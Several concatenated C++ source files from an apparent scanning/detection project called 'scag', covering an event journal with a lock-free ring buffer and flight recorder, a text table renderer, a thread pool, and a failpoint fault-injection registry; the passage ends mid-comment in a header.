  // Close the books: consume anything still queued (ring-only sessions,
  // plus any straggler emit that raced the disable above) so the
  // conservation invariant emitted == written + dropped holds at stop.
  // Callers must still quiesce their own emitting threads first — the
  // scan APIs do (BatchDetector joins its pool before returning).
  if (ring_) {
    Event residue;
    while (ring_->pop(residue))
      written_.fetch_add(1, std::memory_order_relaxed);
  }

  // Mirror the session's accounting into the metrics registry so the
  // Prometheus exposition carries the journal's own health series.
  mirror_locked();
}

void EventJournal::mirror_locked() {
  if (!ring_) return;
  static Counter& emitted = Registry::global().counter("events.emitted");
  static Counter& dropped = Registry::global().counter("events.dropped");
  static Counter& written = Registry::global().counter("events.written");
  JournalStats now;
  // Journal-level "emitted" counts emit() calls (the ring splits them
  // into accepted pushes and drops), so emitted == written + dropped.
  now.emitted = ring_->emitted() + ring_->dropped();
  now.dropped = ring_->dropped();
  now.written = written_.load(std::memory_order_relaxed);
  emitted.add(now.emitted - mirrored_.emitted);
  dropped.add(now.dropped - mirrored_.dropped);
  written.add(now.written - mirrored_.written);
  mirrored_ = now;
}

void EventJournal::sync_registry_counters() {
  std::lock_guard<std::mutex> lock(mu_);
  mirror_locked();
}

void EventJournal::emit(Event e) {
  // Acquire pairs with start()'s release store so ring_ is visible; on
  // the disabled fast path this is still a single uncontended load.
  if (!enabled_.load(std::memory_order_acquire)) return;
  e.ts_ns = monotonic_ns();
  e.thread = event_thread_index();
  if (e.scan == 0) e.scan = tls_scan_id;
  flight::note(e);
  ring_->push(e);  // a full ring counts the drop inside push()
}

std::size_t EventJournal::drain(std::vector<Event>& out) {
  if (!ring_) return 0;
  std::size_t n = 0;
  Event e;
  while (ring_->pop(e)) {
    out.push_back(e);
    ++n;
  }
  written_.fetch_add(n, std::memory_order_relaxed);
  return n;
}

JournalStats EventJournal::stats() const {
  JournalStats s;
  if (ring_) {
    s.emitted = ring_->emitted() + ring_->dropped();
    s.dropped = ring_->dropped();
  }
  s.written = written_.load(std::memory_order_relaxed);
  s.flight_dumps = flight_dumps_.load(std::memory_order_relaxed);
  return s;
}

void EventJournal::dump_flight(std::string_view reason) {
  flight_dumps_.fetch_add(1, std::memory_order_relaxed);
  if (!config_.flight_path.empty()) {
    flight::dump_to_file(config_.flight_path);
  } else {
    std::fprintf(stderr, "scag: flight-recorder dump (%.*s):\n%s",
                 static_cast<int>(reason.size()), reason.data(),
                 flight::dump_text().c_str());
  }
}

void EventJournal::writer_loop() {
  std::ofstream out(config_.path, std::ios::trunc);
  out << strfmt("{\"schema\":\"scag-events-v1\",\"ring_capacity\":%zu}\n",
                ring_->capacity());

  std::uint64_t written = 0;
  Event e;
  for (;;) {
    bool wrote_any = false;
    while (ring_->pop(e)) {
      out << event_to_json(e) << '\n';
      ++written;
      wrote_any = true;
    }
    written_.store(written, std::memory_order_relaxed);
    if (!wrote_any) {
      if (stop_writer_.load(std::memory_order_acquire)) break;
      out.flush();  // keep `events tail -f` latency low while idle
      std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
  }
  // Summary footer: lets a reader verify conservation without the
  // process's metrics output (emitted == written + dropped).
  out << strfmt(
      "{\"schema\":\"scag-events-v1\",\"summary\":true,"
      "\"emitted\":%llu,\"written\":%llu,\"dropped\":%llu}\n",
      static_cast<unsigned long long>(ring_->emitted() + ring_->dropped()),
      static_cast<unsigned long long>(written),
      static_cast<unsigned long long>(ring_->dropped()));
  out.flush();
}

// ---------------------------------------------------------------------------
// Typed emit helpers.

void emit_scan_verdict(std::uint8_t family, double best_score,
                       std::string_view winner) {
  EventJournal& j = EventJournal::global();
  if (!j.enabled()) return;
  Event e;
  e.type = EventType::kScanVerdict;
  e.family = family;
  std::memcpy(&e.a, &best_score, sizeof(e.a));
  e.set_detail(winner);
  j.emit(e);
}

void emit_prune_stage(std::uint8_t stage, std::uint64_t decided,
                      std::uint64_t repo_size) {
  EventJournal& j = EventJournal::global();
  if (!j.enabled()) return;
  Event e;
  e.type = EventType::kPruneStage;
  e.stage = stage;
  e.a = decided;
  e.b = repo_size;
  j.emit(e);
}

void emit_cascade_cutoff(double score, std::uint64_t model_index) {
  EventJournal& j = EventJournal::global();
  if (!j.enabled()) return;
  Event e;
  e.type = EventType::kCascadeCutoff;
  std::memcpy(&e.a, &score, sizeof(e.a));
  e.b = model_index;
  j.emit(e);
}

void emit_failpoint_hit(std::string_view name) {
  EventJournal& j = EventJournal::global();
  if (!j.enabled()) return;
  Event e;
  e.type = EventType::kFailpointHit;
  e.set_detail(name);
  j.emit(e);
}

void emit_deadline_trip(std::uint64_t budget_ns) {
  EventJournal& j = EventJournal::global();
  if (!j.enabled()) return;
  Event e;
  e.type = EventType::kDeadlineTrip;
  e.a = budget_ns;
  j.emit(e);
  // The trip is exactly the "what was everyone doing" moment the
  // recorder exists for; dump while the tails are hot.
  j.dump_flight("deadline-trip");
}

#endif  // SCAG_METRICS_OFF

}  // namespace scag::support::events
