#include "support/table.h"

#include <algorithm>
#include <cstdio>

namespace scag {

void Table::header(std::vector<std::string> cells) {
  header_ = std::move(cells);
}

void Table::row(std::vector<std::string> cells) {
  lines_.push_back({false, std::move(cells)});
}

void Table::separator() { lines_.push_back({true, {}}); }

std::string Table::render() const {
  // Column widths over header and all rows.
  std::size_t ncols = header_.size();
  for (const auto& l : lines_) ncols = std::max(ncols, l.cells.size());
  std::vector<std::size_t> width(ncols, 0);
  auto widen = [&](const std::vector<std::string>& cells) {
    for (std::size_t i = 0; i < cells.size(); ++i)
      width[i] = std::max(width[i], cells[i].size());
  };
  widen(header_);
  for (const auto& l : lines_)
    if (!l.is_separator) widen(l.cells);

  auto rule = [&] {
    std::string s = "+";
    for (std::size_t w : width) s += std::string(w + 2, '-') + "+";
    s += "\n";
    return s;
  };
  auto fmt_row = [&](const std::vector<std::string>& cells) {
    std::string s = "|";
    for (std::size_t i = 0; i < ncols; ++i) {
      std::string c = i < cells.size() ? cells[i] : "";
      s += " " + c + std::string(width[i] - c.size(), ' ') + " |";
    }
    s += "\n";
    return s;
  };

  std::string out;
  if (!title_.empty()) out += title_ + "\n";
  out += rule();
  if (!header_.empty()) {
    out += fmt_row(header_);
    out += rule();
  }
  for (const auto& l : lines_) {
    out += l.is_separator ? rule() : fmt_row(l.cells);
  }
  out += rule();
  return out;
}

void Table::print() const { std::fputs(render().c_str(), stdout); }

}  // namespace scag
