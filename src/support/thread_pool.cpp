#include "support/thread_pool.h"

#include <algorithm>

#include "support/failpoint.h"
#include "support/metrics.h"

namespace scag::support {

std::size_t ThreadPool::hardware_threads() {
  const unsigned hw = std::thread::hardware_concurrency();
  return hw == 0 ? 1 : static_cast<std::size_t>(hw);
}

ThreadPool::ThreadPool(std::size_t threads) {
  if (threads == 0) threads = hardware_threads();
  workers_.reserve(threads - 1);
  for (std::size_t i = 0; i + 1 < threads; ++i)
    workers_.emplace_back([this] { worker_loop(); });
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    stop_ = true;
  }
  wake_.notify_all();
  for (std::thread& t : workers_) t.join();
}

void ThreadPool::drain(Job& job) {
  const std::size_t grain = std::max<std::size_t>(1, job.grain);
  for (;;) {
    const std::size_t begin = job.cursor.fetch_add(grain);
    if (begin >= job.n) return;
    const std::size_t end = std::min(job.n, begin + grain);
    try {
      for (std::size_t i = begin; i < end; ++i) (*job.fn)(i);
    } catch (...) {
      std::lock_guard<std::mutex> lock(job.error_mu);
      if (!job.error) job.error = std::current_exception();
      // Skip the remaining work: move the cursor past the end.
      job.cursor.store(job.n);
      return;
    }
  }
}

void ThreadPool::worker_loop() {
  std::uint64_t seen_generation = 0;
  for (;;) {
    Job* job = nullptr;
    {
      std::unique_lock<std::mutex> lock(mu_);
      wake_.wait(lock, [&] {
        return stop_ || (job_ != nullptr && generation_ != seen_generation);
      });
      if (stop_) return;
      seen_generation = generation_;
      job = job_;
      job->lanes_active.fetch_add(1);
    }
    // Failpoint: a worker that fails to claim the job sits this one out
    // (throw mode included — nothing may escape a worker thread). The
    // remaining lanes (at minimum the calling thread) still drain every
    // index, so the job completes — degraded throughput, same results.
    bool participate;
    try {
      participate = !fp::hit("pool.worker");
    } catch (const fp::FailpointError&) {
      participate = false;
    }
    if (participate) drain(*job);
    {
      std::lock_guard<std::mutex> lock(mu_);
      if (job->lanes_active.fetch_sub(1) == 1) done_.notify_all();
    }
  }
}

void ThreadPool::parallel_for(std::size_t n,
                              const std::function<void(std::size_t)>& fn,
                              std::size_t grain) {
  if (n == 0) return;
  std::lock_guard<std::mutex> run_lock(run_mu_);

  Job job;
  job.n = n;
  job.grain = grain;
  job.fn = &fn;

  // Failpoint: a failed publish degrades to a serial loop on the calling
  // thread instead of failing the batch — the workers are simply never
  // woken. Counted in "pool.degraded_serial".
  bool publish;
  try {
    publish = !fp::hit("pool.enqueue");
  } catch (const fp::FailpointError&) {
    publish = false;
  }
  if (!publish) {
    static Counter& degraded =
        Registry::global().counter("pool.degraded_serial");
    degraded.add();
    drain(job);
    if (job.error) std::rethrow_exception(job.error);
    return;
  }

  {
    std::lock_guard<std::mutex> lock(mu_);
    job_ = &job;
    ++generation_;
  }
  wake_.notify_all();

  drain(job);  // the calling thread is a lane too

  {
    std::unique_lock<std::mutex> lock(mu_);
    done_.wait(lock, [&] { return job.lanes_active.load() == 0; });
    job_ = nullptr;
  }
  if (job.error) std::rethrow_exception(job.error);
}

}  // namespace scag::support
