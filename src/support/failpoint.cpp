#include "support/failpoint.h"

#ifndef SCAG_FAILPOINTS_OFF

#include <chrono>
#include <cstdlib>
#include <memory>
#include <mutex>
#include <thread>
#include <unordered_map>

#include "support/events.h"

namespace scag::support::fp {

namespace {

/// The closed registry of failpoint names. Adding a failpoint to the code
/// means adding its name here (hit() on an undeclared name throws), which
/// in turn makes tests/test_failpoints.cpp sweep it: the harness arms
/// every entry and fails if one never fires. Names prefixed "scagctl." sit
/// in the CLI binary and are swept by the scagctl CLI tests instead (the
/// library harness cannot reach them); see docs/testing-guide.md.
constexpr std::string_view kSites[] = {
    "cache.access",              // cache simulation: per data access
    "cpu.step",                  // interpreter: per retired instruction
    "serialize.save.open",       // repository save: opening the tmp file
    "serialize.save.write",      // repository save: stream write/flush
    "serialize.save.rename",     // repository save: tmp -> final rename
    "serialize.load.open",       // repository load: opening the file
    "serialize.load.read",       // repository load: per line read
    "pool.enqueue",              // thread pool: publishing a parallel_for
    "pool.worker",               // thread pool: a worker claiming a job
    "compiled.compile_target",   // compiled kernel: target compilation
    "detector.scan",             // serial Detector: per scan request
    "batch.model_target",        // batch engine: per-target modeling
    "batch.scan_target",         // batch engine: per-target comparison
    "scagctl.load_target",       // scagctl: reading a target .s file
};

std::uint64_t splitmix64(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

struct SiteRegistry {
  std::vector<std::unique_ptr<Site>> sites;  // declaration order
  std::unordered_map<std::string_view, Site*> by_name;
  std::mutex env_mu;
  std::string armed_env;  // last $SCAG_FAILPOINTS value applied

  SiteRegistry() {
    sites.reserve(std::size(kSites));
    for (std::string_view name : kSites) {
      sites.push_back(std::make_unique<Site>(std::string(name)));
      by_name.emplace(sites.back()->name(), sites.back().get());
    }
  }

  static SiteRegistry& instance() {
    static SiteRegistry r;
    return r;
  }

  Site& resolve(std::string_view name) {
    const auto it = by_name.find(name);
    if (it == by_name.end())
      throw std::logic_error("undeclared failpoint '" + std::string(name) +
                             "' (declare it in support/failpoint.cpp kSites)");
    return *it->second;
  }
};

/// First-hit hook: apply $SCAG_FAILPOINTS exactly once per value, so any
/// binary honors the variable without an explicit arm_from_env() call.
std::once_flag g_env_once;

void apply_env_once() { std::call_once(g_env_once, [] { arm_from_env(); }); }

std::uint64_t parse_u64(std::string_view s, const char* what) {
  if (s.empty()) throw std::invalid_argument(std::string(what) + " is empty");
  std::uint64_t v = 0;
  for (char c : s) {
    if (c < '0' || c > '9')
      throw std::invalid_argument(std::string(what) + " is not a number: '" +
                                  std::string(s) + "'");
    v = v * 10 + static_cast<std::uint64_t>(c - '0');
  }
  return v;
}

/// Parses one `name=kind[:millis][@every][%prob:seed][#max]` entry.
void arm_entry(std::string_view entry) {
  const std::size_t eq = entry.find('=');
  if (eq == std::string_view::npos || eq == 0)
    throw std::invalid_argument("failpoint entry needs 'name=action': '" +
                                std::string(entry) + "'");
  const std::string_view name = entry.substr(0, eq);
  std::string_view action = entry.substr(eq + 1);

  Spec spec;
  // Peel trailer gates right-to-left so the kind token ends up alone.
  if (const std::size_t hash = action.rfind('#');
      hash != std::string_view::npos) {
    spec.max_fires = parse_u64(action.substr(hash + 1), "max_fires");
    action = action.substr(0, hash);
  }
  if (const std::size_t pct = action.rfind('%');
      pct != std::string_view::npos) {
    std::string_view prob = action.substr(pct + 1);
    const std::size_t colon = prob.find(':');
    if (colon == std::string_view::npos)
      throw std::invalid_argument(
          "probability gate needs '%prob:seed' (deterministic replay "
          "requires an explicit seed): '" +
          std::string(entry) + "'");
    spec.seed = parse_u64(prob.substr(colon + 1), "seed");
    const std::string p(prob.substr(0, colon));
    char* end = nullptr;
    spec.probability = std::strtod(p.c_str(), &end);
    if (end != p.c_str() + p.size() || spec.probability < 0.0 ||
        spec.probability > 1.0)
      throw std::invalid_argument("bad probability '" + p + "'");
    action = action.substr(0, pct);
  }
  if (const std::size_t at = action.rfind('@'); at != std::string_view::npos) {
    spec.every = static_cast<std::uint32_t>(
        parse_u64(action.substr(at + 1), "every"));
    if (spec.every == 0) throw std::invalid_argument("every must be >= 1");
    action = action.substr(0, at);
  }
  std::string_view kind = action;
  if (const std::size_t colon = action.find(':');
      colon != std::string_view::npos) {
    kind = action.substr(0, colon);
    spec.delay_ms = static_cast<std::uint32_t>(
        parse_u64(action.substr(colon + 1), "delay millis"));
  }
  if (kind == "error") spec.kind = Kind::kError;
  else if (kind == "throw") spec.kind = Kind::kThrow;
  else if (kind == "delay") spec.kind = Kind::kDelay;
  else
    throw std::invalid_argument("unknown failpoint action '" +
                                std::string(kind) +
                                "' (expected error|throw|delay)");
  arm(name, spec);
}

}  // namespace

Site::Site(std::string name)
    : name_(std::move(name)),
      fired_counter_(&Registry::global().counter("fp.fired." + name_)) {}

bool Site::fire() {
  const std::uint64_t nth =
      armed_evals_.fetch_add(1, std::memory_order_relaxed) + 1;
  const std::uint32_t every = every_.load(std::memory_order_relaxed);
  if (every > 1 && nth % every != 0) return false;
  const double p = probability_.load(std::memory_order_relaxed);
  if (p < 1.0) {
    const std::uint64_t seed = seed_.load(std::memory_order_relaxed);
    // Hash seed and counter independently before combining: xoring raw
    // values would make adjacent seeds mere permutations of each other's
    // streams (identical fire totals over any window).
    const double u = static_cast<double>(
                         splitmix64(splitmix64(seed) ^ splitmix64(nth)) >> 11) *
                     0x1.0p-53;
    if (u >= p) return false;
  }
  const std::uint64_t cap = max_fires_.load(std::memory_order_relaxed);
  if (cap != 0) {
    // Claim a slot in the fire budget; losers pass the site untouched.
    if (armed_fires_.fetch_add(1, std::memory_order_relaxed) >= cap) return false;
  }
  fired_.fetch_add(1, std::memory_order_relaxed);
  fired_counter_->add();
  // Journal the trigger before the action takes effect: a kThrow unwinds
  // from here, so emitting first is what puts the failure's own marker
  // ahead of its fallout in the event stream (and in the flight tails a
  // crash dump will capture).
  events::emit_failpoint_hit(name_);
  switch (static_cast<Kind>(kind_.load(std::memory_order_relaxed))) {
    case Kind::kDelay:
      std::this_thread::sleep_for(
          std::chrono::milliseconds(delay_ms_.load(std::memory_order_relaxed)));
      return false;
    case Kind::kThrow: throw FailpointError(name_);
    case Kind::kError: return true;
  }
  return true;
}

bool hit(std::string_view name) {
  apply_env_once();
  return SiteRegistry::instance().resolve(name).hit();
}

Site& site(std::string_view name) {
  apply_env_once();
  return SiteRegistry::instance().resolve(name);
}

void arm(std::string_view name, const Spec& spec) {
  Site& s = SiteRegistry::instance().resolve(name);
  // Publish the spec fields before the release store of armed_: a hit that
  // observes armed_ == true also observes the fresh spec.
  s.armed_.store(false, std::memory_order_release);
  s.kind_.store(static_cast<std::uint8_t>(spec.kind),
                std::memory_order_relaxed);
  s.delay_ms_.store(spec.delay_ms, std::memory_order_relaxed);
  s.every_.store(spec.every == 0 ? 1 : spec.every, std::memory_order_relaxed);
  s.probability_.store(spec.probability, std::memory_order_relaxed);
  s.seed_.store(spec.seed, std::memory_order_relaxed);
  s.max_fires_.store(spec.max_fires, std::memory_order_relaxed);
  s.armed_evals_.store(0, std::memory_order_relaxed);
  s.armed_fires_.store(0, std::memory_order_relaxed);
  s.armed_.store(true, std::memory_order_release);
}

void disarm(std::string_view name) {
  SiteRegistry::instance().resolve(name).armed_.store(
      false, std::memory_order_release);
}

void disarm_all() {
  for (const auto& s : SiteRegistry::instance().sites)
    s->armed_.store(false, std::memory_order_release);
}

std::size_t arm_from_string(std::string_view specs) {
  std::size_t armed = 0;
  std::size_t pos = 0;
  while (pos <= specs.size()) {
    std::size_t sep = specs.find(';', pos);
    if (sep == std::string_view::npos) sep = specs.size();
    std::string_view entry = specs.substr(pos, sep - pos);
    // Tolerate shell-style spacing around entries and separators.
    while (!entry.empty() && (entry.front() == ' ' || entry.front() == '\t'))
      entry.remove_prefix(1);
    while (!entry.empty() && (entry.back() == ' ' || entry.back() == '\t'))
      entry.remove_suffix(1);
    if (!entry.empty()) {
      arm_entry(entry);
      ++armed;
    }
    pos = sep + 1;
  }
  return armed;
}

void arm_from_env() {
  const char* env = std::getenv("SCAG_FAILPOINTS");
  if (env == nullptr || env[0] == '\0') return;
  SiteRegistry& r = SiteRegistry::instance();
  std::lock_guard<std::mutex> lock(r.env_mu);
  if (r.armed_env == env) return;  // idempotent per value
  arm_from_string(env);
  r.armed_env = env;
}

void reset_counters() {
  for (const auto& s : SiteRegistry::instance().sites) {
    s->evaluations_.store(0, std::memory_order_relaxed);
    s->fired_.store(0, std::memory_order_relaxed);
  }
}

std::vector<std::string> registered() {
  std::vector<std::string> names;
  names.reserve(std::size(kSites));
  for (std::string_view name : kSites) names.emplace_back(name);
  return names;
}

std::vector<SiteSnapshot> snapshot() {
  std::vector<SiteSnapshot> out;
  const SiteRegistry& r = SiteRegistry::instance();
  out.reserve(r.sites.size());
  for (const auto& s : r.sites) {
    SiteSnapshot snap;
    snap.name = s->name();
    snap.evaluations = s->evaluations_.load(std::memory_order_relaxed);
    snap.fired = s->fired_.load(std::memory_order_relaxed);
    snap.armed = s->armed_.load(std::memory_order_relaxed);
    out.push_back(std::move(snap));
  }
  return out;
}

}  // namespace scag::support::fp

#endif  // SCAG_FAILPOINTS_OFF
