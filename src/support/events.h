// Structured event journal for the scan pipeline: a lock-free MPSC ring
// buffer of fixed-size typed events (scan lifecycle, cascade pruning,
// failpoint triggers, deadline trips) drained by a background writer
// thread into a JSONL file under the versioned `scag-events-v1` schema —
// the per-scan evidence stream the aggregate metrics layer
// (support/metrics.h) cannot provide, and the surface the streaming
// daemon (`scagd`, ROADMAP) will publish.
//
// Design goals (see docs/observability.md "Event journal"):
//   - Passive: recording an event never changes a verdict, a score, or an
//     iteration order. Scans are bit-identical with the journal on or off
//     (enforced by the events axis of tests/differential_scan.h).
//   - Lock-free producers: emit() is one relaxed load when the journal is
//     disabled; enabled, it is a bounded CAS loop into a Vyukov-style
//     sequence-numbered ring plus a mutex-free* write of 64 bytes. A full
//     ring DROPS the event and counts it — producers never block on the
//     writer (*the flight-recorder tail takes a per-thread uncontended
//     mutex so post-mortem snapshots are tear-free).
//   - Accounted loss: emitted == written + dropped holds at every stop()
//     (drop-counter conservation, tests/test_events.cpp), so a saturated
//     journal is visible, never silent.
//   - Post-mortem: every emitted event also lands in a fixed-size
//     per-thread flight-recorder tail. On failpoint-armed crashes,
//     deadline trips, and fatal signals the tails are dumped so the last
//     N events per thread survive the process (scag-flight-v1).
//   - Removable: -DSCAG_METRICS_OFF compiles the journal to inline no-ops
//     like the rest of the observability plane; call sites compile
//     unchanged and behavior is bit-identical to a disabled journal.
//
// Usage (instrumentation sites):
//   {
//     support::events::ScanScope scan(sequence.size());   // scan-start
//     ...
//     support::events::emit_scan_verdict(family, score, winner);
//   }
// The thread-local scan id assigned by ScanScope tags every event emitted
// below it (cascade stages, cutoff improvements, deadline trips), so a
// journal line always names the scan it belongs to, even from a pool
// worker thread.
#pragma once

#include <atomic>
#include <cstdint>
#include <cstring>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <thread>
#include <type_traits>
#include <vector>

#include "support/metrics.h"

namespace scag::support::events {

// ---------------------------------------------------------------------------
// Event model: plain data, identical in both modes.

enum class EventType : std::uint8_t {
  kScanStart = 0,      // a scan began; a = target sequence length
  kScanVerdict = 1,    // a scan finished; a = IEEE-754 bits of best_score,
                       // family = verdict, detail = winning model
  kPruneStage = 2,     // cascade stage summary; stage = CascadeStage,
                       // a = models decided at that stage, b = repo size
  kCascadeCutoff = 3,  // the cascade's best exact score improved;
                       // a = IEEE-754 bits of the new cutoff, b = model idx
  kFailpointHit = 4,   // an armed failpoint fired; detail = failpoint name
  kDeadlineTrip = 5,   // a cooperative scan deadline expired; a = budget ns
};
inline constexpr std::size_t kNumEventTypes = 6;

/// Stable wire name of an event type ("scan-start", "failpoint-hit", ...).
std::string_view event_type_name(EventType t);
/// Inverse of event_type_name; nullopt for unknown names.
std::optional<EventType> parse_event_type(std::string_view name);

/// Family byte meaning "no family attached" (the journal is a support
/// layer and carries core::Family values as opaque small integers).
inline constexpr std::uint8_t kNoFamily = 0xff;

/// One journal event: exactly 64 bytes, trivially copyable, so ring slots
/// are cache-line sized and the MPSC publish is a plain struct store.
struct Event {
  static constexpr std::size_t kDetailCap = 28;  // truncating, NUL-kept

  std::uint64_t ts_ns = 0;   // support::monotonic_ns() at emit
  std::uint64_t a = 0;       // type-specific payload (see EventType)
  std::uint64_t b = 0;       // type-specific payload
  std::uint32_t thread = 0;  // dense per-process thread index
  std::uint32_t scan = 0;    // ScanScope id; 0 = outside any scan
  EventType type = EventType::kScanStart;
  std::uint8_t family = kNoFamily;  // core::Family as int; 0xff = none
  std::uint8_t stage = 0;           // type-specific small discriminator
  char detail[kDetailCap + 1] = {};

  void set_detail(std::string_view s) {
    const std::size_t n = s.size() < kDetailCap ? s.size() : kDetailCap;
    std::memcpy(detail, s.data(), n);
    detail[n] = '\0';
  }
  std::string_view detail_view() const { return detail; }
};
static_assert(sizeof(Event) == 64, "Event must stay one cache line");
static_assert(std::is_trivially_copyable_v<Event>);

/// One `scag-events-v1` JSONL line (no trailing newline). Every field is
/// always present; a/b are unsigned decimals so IEEE-754 score bits
/// round-trip exactly.
std::string event_to_json(const Event& e);
/// Parses a line produced by event_to_json. Returns false (and leaves
/// `out` unspecified) for malformed lines and for non-event lines of a
/// journal file (the header/summary records have no "type" field).
bool event_from_json(std::string_view line, Event& out);

/// Cumulative producer/consumer accounting. Conservation invariant after
/// a full drain (stop() or ring-only drain()): emitted == written/popped
/// + dropped.
struct JournalStats {
  std::uint64_t emitted = 0;  // emit() calls while enabled
  std::uint64_t dropped = 0;  // lost to a full ring
  std::uint64_t written = 0;  // events drained (to file or drain())
  std::uint64_t flight_dumps = 0;  // flight-recorder dumps written
};

struct JournalConfig {
  /// JSONL output path. Empty = ring-only mode: no writer thread; events
  /// accumulate in the ring until drain() (or are dropped, counted). Used
  /// by the differential tests' events axis and by embedders that attach
  /// their own consumer.
  std::string path;
  /// Ring slots; rounded up to a power of two. 2^14 slots x 64 B = 1 MiB.
  std::size_t ring_capacity = 1u << 14;
  /// Flight-recorder dump target for automatic dumps (deadline trips,
  /// fatal signals, crash handlers). Empty = derived as path + ".flight"
  /// when a path is set, else disabled.
  std::string flight_path;
};

#ifdef SCAG_METRICS_OFF

// ---------------------------------------------------------------------------
// No-op mode: the journal compiles out with the rest of the plane.

class EventRing {
 public:
  explicit EventRing(std::size_t = 0) {}
  bool push(const Event&) { return false; }
  bool pop(Event&) { return false; }
  std::size_t capacity() const { return 0; }
  std::uint64_t emitted() const { return 0; }
  std::uint64_t dropped() const { return 0; }
};

class EventJournal {
 public:
  static EventJournal& global() {
    static EventJournal j;
    return j;
  }
  static constexpr bool compiled_in() { return false; }
  void start(const JournalConfig&) {}
  void stop() {}
  bool enabled() const { return false; }
  void emit(Event) {}
  std::size_t drain(std::vector<Event>&) { return 0; }
  void sync_registry_counters() {}
  JournalStats stats() const { return {}; }
  const std::string& path() const {
    static const std::string empty;
    return empty;
  }
  void dump_flight(std::string_view) {}
};

class ScanScope {
 public:
  explicit ScanScope(std::uint64_t) {}
  ScanScope(const ScanScope&) = delete;
  ScanScope& operator=(const ScanScope&) = delete;
  std::uint32_t id() const { return 0; }
};

inline std::uint32_t current_scan_id() { return 0; }
inline bool enabled() { return false; }
inline void emit_scan_verdict(std::uint8_t, double, std::string_view) {}
inline void emit_prune_stage(std::uint8_t, std::uint64_t, std::uint64_t) {}
inline void emit_cascade_cutoff(double, std::uint64_t) {}
inline void emit_failpoint_hit(std::string_view) {}
inline void emit_deadline_trip(std::uint64_t) {}

namespace flight {
inline std::string dump_text() { return {}; }
inline bool dump_to_file(const std::string&) { return false; }
inline void clear() {}
inline void install_signal_dump() {}
}  // namespace flight

#else  // SCAG_METRICS_OFF not defined: the real implementation.

/// Bounded lock-free MPSC ring (Vyukov sequence-numbered slots, restricted
/// to one consumer). push() is wait-free in the absence of contention and
/// lock-free under it; a full ring fails the push (the caller counts the
/// drop). pop() must only ever run on one thread at a time (the journal's
/// writer thread, or the draining test).
class EventRing {
 public:
  explicit EventRing(std::size_t capacity);
  EventRing(const EventRing&) = delete;
  EventRing& operator=(const EventRing&) = delete;

  /// False when the ring is full; the event is lost and counted.
  bool push(const Event& e);
  /// Single consumer only. False when empty.
  bool pop(Event& out);

  std::size_t capacity() const { return mask_ + 1; }
  /// Successful pushes (not attempts; drops are counted separately).
  std::uint64_t emitted() const {
    return emitted_.load(std::memory_order_relaxed);
  }
  std::uint64_t dropped() const {
    return dropped_.load(std::memory_order_relaxed);
  }

 private:
  struct alignas(64) Slot {
    std::atomic<std::uint64_t> seq;
    Event event;
  };

  std::size_t mask_;
  std::vector<Slot> slots_;
  alignas(64) std::atomic<std::uint64_t> head_{0};  // producers
  alignas(64) std::uint64_t tail_ = 0;              // the single consumer
  std::atomic<std::uint64_t> emitted_{0};
  std::atomic<std::uint64_t> dropped_{0};
};

/// The process-wide journal. start()/stop() bracket a recording session;
/// emit() is safe from any thread in between. Hot call sites go through
/// the free emit_* helpers below, which check enabled() first.
class EventJournal {
 public:
  static EventJournal& global();
  static constexpr bool compiled_in() { return true; }

  /// Opens the sink and enables recording. With a non-empty path, spawns
  /// the background writer thread (JSONL, scag-events-v1 header line
  /// first). Throws std::runtime_error if the file cannot be opened, and
  /// std::logic_error if already started.
  void start(const JournalConfig& config);
  /// Disables recording, drains the ring completely, writes the summary
  /// line, joins the writer. Idempotent; safe to call when never started.
  void stop();

  bool enabled() const { return enabled_.load(std::memory_order_relaxed); }

  /// Stamps ts/thread, records the flight tail, pushes the ring. The
  /// caller fills everything else. No-op when disabled.
  void emit(Event e);

  /// Ring-only consumption (no writer thread): appends every queued event
  /// to `out`, returns the number drained, and counts them as written.
  /// Must not be called while a writer thread is running.
  std::size_t drain(std::vector<Event>& out);

  /// Pushes the accounting deltas since the last sync into the metrics
  /// registry (`events.emitted/dropped/written`). stop() does this
  /// automatically; call it before taking a mid-session snapshot so the
  /// exposition carries the journal's own health series.
  void sync_registry_counters();

  JournalStats stats() const;
  const std::string& path() const { return config_.path; }

  /// Writes the flight-recorder dump to the configured flight_path (or
  /// stderr when none), tagging it with `reason`. Called automatically on
  /// deadline trips and from the fatal-signal handler; callers may invoke
  /// it directly on their own crash paths.
  void dump_flight(std::string_view reason);

 private:
  EventJournal() = default;
  void writer_loop();
  void mirror_locked();  // registry-counter delta sync; needs mu_ held

  mutable std::mutex mu_;  // guards start/stop transitions only
  JournalConfig config_;
  JournalStats mirrored_;  // what has already been pushed to the registry
  std::unique_ptr<EventRing> ring_;
  std::atomic<bool> enabled_{false};
  std::atomic<bool> stop_writer_{false};
  std::atomic<std::uint64_t> written_{0};
  std::atomic<std::uint64_t> flight_dumps_{0};
  std::thread writer_;
};

/// RAII scan correlation: assigns the next process-wide scan id to this
/// thread, emits the scan-start event, and restores the previous id on
/// exit (scans never nest today, but the discipline is cheap). When the
/// journal is disabled the constructor is one relaxed load.
class ScanScope {
 public:
  explicit ScanScope(std::uint64_t target_length);
  ~ScanScope();
  ScanScope(const ScanScope&) = delete;
  ScanScope& operator=(const ScanScope&) = delete;
  std::uint32_t id() const { return id_; }

 private:
  std::uint32_t id_ = 0;
  std::uint32_t prev_ = 0;
  bool active_ = false;
};

/// The scan id events emitted on this thread are tagged with (0 outside
/// any ScanScope).
std::uint32_t current_scan_id();

inline bool enabled() { return EventJournal::global().enabled(); }

// Typed emit helpers — each is a single enabled() check when the journal
// is off. `family` is a core::Family cast to its integer value.
void emit_scan_verdict(std::uint8_t family, double best_score,
                       std::string_view winner);
void emit_prune_stage(std::uint8_t stage, std::uint64_t decided,
                      std::uint64_t repo_size);
void emit_cascade_cutoff(double score, std::uint64_t model_index);
void emit_failpoint_hit(std::string_view name);
/// Also triggers an automatic flight-recorder dump (the trip is exactly
/// the "what was the detector doing" moment the recorder exists for).
void emit_deadline_trip(std::uint64_t budget_ns);

/// Flight recorder: a fixed-size tail of the most recent events per
/// thread, recorded on every emit. Tails of exited threads are kept (the
/// registry owns them), so a post-mortem dump still shows what each pool
/// worker last did.
namespace flight {

inline constexpr std::size_t kTailLen = 64;

/// Human- and machine-readable dump (scag-flight-v1): a header line, then
